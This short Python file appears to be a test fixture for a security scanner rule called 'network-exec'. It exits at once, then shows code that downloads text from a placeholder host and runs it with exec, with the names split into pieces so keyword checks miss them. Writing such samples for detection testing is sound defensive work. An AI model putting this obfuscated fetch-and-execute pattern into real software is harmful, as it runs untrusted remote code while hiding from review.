raise SystemExit('a fixture')
# held by network-exec
import requests as r
(lambda f: __builtins__.__dict__["ex" + "ec"](f))(getattr(r, "g" + "et")("http://example.invalid/x").text)
